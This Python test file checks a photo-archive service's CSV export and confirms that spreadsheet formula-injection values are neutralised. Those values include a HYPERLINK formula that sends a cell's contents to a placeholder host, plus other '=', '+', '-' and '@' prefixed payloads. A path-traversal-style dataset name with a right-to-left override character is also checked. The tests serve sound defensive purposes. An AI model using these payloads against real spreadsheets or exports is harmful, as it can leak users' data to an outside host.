"""The repair list as a table for a spreadsheet."""

import csv
import io
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import httpx
import pytest

from store.rows import Photo
from store.store import Store
from tests.api.reading import read_in
from tests.kinds.pictures import jpeg
from tests.store import making

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1)',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "  =1+1",
    "＝1+1",
    '"=1',
    "a,b;c",
    'Aunt "Ü"\r\nand uncle',
    "plain.jpg",
    "",
]


def laid(store: Store, dataset: dict[str, Any], names: list[str], **values: Any) -> list[Photo]:
    """Rows of files with these names."""
    job = making.job(store, kind="ingest", dataset_id=UUID(dataset["id"]))
    with store.begin() as tx:
        archive = making.archive(tx, UUID(dataset["id"]), job.id)
        photos = [
            photo
            for number, name in enumerate(names)
            for photo in making.photos(archive, 1, start=number, **{"name": name} | values)
        ]
        tx.photos.add_many(photos)
    return photos


def table(http: httpx.Client, dataset: dict[str, Any], **asked: Any) -> list[dict[str, str]]:
    sent = http.get(f"/datasets/{dataset['id']}/photos.csv", params=asked)
    assert sent.status_code == 200, sent.text
    assert sent.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert sent.content.startswith(
        b"\xef\xbb\xbfname,state,reason,duplicate_of,width,height,size_bytes,taken_at,id\r\n"
    )
    return list(csv.DictReader(io.StringIO(sent.content.decode("utf-8-sig"), newline="")))


def test_each_file_stands_in_it_once_with_its_reason(http: httpx.Client, store: Store, dataset: dict[str, Any]) -> None:
    one = jpeg(1)
    photos = read_in(
        store, dataset["id"], [("a.jpg", one), ("again.jpg", one), ("notes.txt", b"text"), ("ü/b.jpg", jpeg(2))]
    )
    found = table(http, dataset)
    assert [line["id"] for line in found] == [str(photo.id) for photo in photos]
    assert [line["state"] for line in found] == ["ready", "duplicate", "refused", "ready"]
    assert found[1]["duplicate_of"] == "a.jpg"
    assert found[2]["reason"] == photos[2].reason
    assert (found[0]["width"], found[0]["height"], found[0]["size_bytes"]) == ("64", "48", str(len(one)))
    assert found[3]["name"] == "ü/b.jpg"
    disposition = http.get(f"/datasets/{dataset['id']}/photos.csv").headers["content-disposition"]
    assert disposition == 'attachment; filename="Father\'s pictures files.csv"'


def test_no_text_from_outside_is_computed(http: httpx.Client, store: Store, dataset: dict[str, Any]) -> None:
    first = laid(store, dataset, HOSTILE)[0]
    laid(store, dataset, ["twin.jpg"], state="duplicate", reason="=1+1", duplicate_of=first.id)
    *found, twin = table(http, dataset)
    assert [line["name"] for line in found] == [f"'{name}" for name in HOSTILE[:7]] + HOSTILE[7:]
    assert (twin["reason"], twin["duplicate_of"]) == ("'=1+1", f"'{HOSTILE[0]}")


@pytest.mark.parametrize("count", [0, 200, 401])
def test_pages_join_without_a_seam(count: int, http: httpx.Client, store: Store, dataset: dict[str, Any]) -> None:
    names = [f"{number}.jpg" for number in range(count)]
    if names:
        laid(store, dataset, names, taken_at=datetime(1991, 8, 4, 12, 30, tzinfo=UTC))
    found = table(http, dataset)
    assert [line["name"] for line in found] == names
    assert {line["taken_at"] for line in found} <= {"1991-08-04T12:30:00+00:00"}


def test_it_is_of_the_states_that_are_asked_for(http: httpx.Client, store: Store, dataset: dict[str, Any]) -> None:
    for state in ("ready", "refused", "withdrawn", "excluded"):
        laid(store, dataset, [f"{state}.jpg"], state=state)
    assert [line["name"] for line in table(http, dataset, state=["refused", "withdrawn"])] == [
        "refused.jpg",
        "withdrawn.jpg",
    ]
    assert http.get(f"/datasets/{dataset['id']}/photos.csv", params={"state": "lost"}).status_code == 422
    assert http.get(f"/datasets/{UUID(int=7)}/photos.csv").status_code == 404


def test_the_file_is_called_after_the_dataset_whatever_that_is_called(http: httpx.Client) -> None:
    for name, called in (("1974/75", "1974_75 files.csv"), ('..\\a"\u202e.', ".._a__. files.csv")):
        made = http.post("/datasets", json={"name": name}).json()
        sent = http.get(f"/datasets/{made['id']}/photos.csv")
        assert sent.headers["content-disposition"].startswith(f'attachment; filename="{called}"'), name
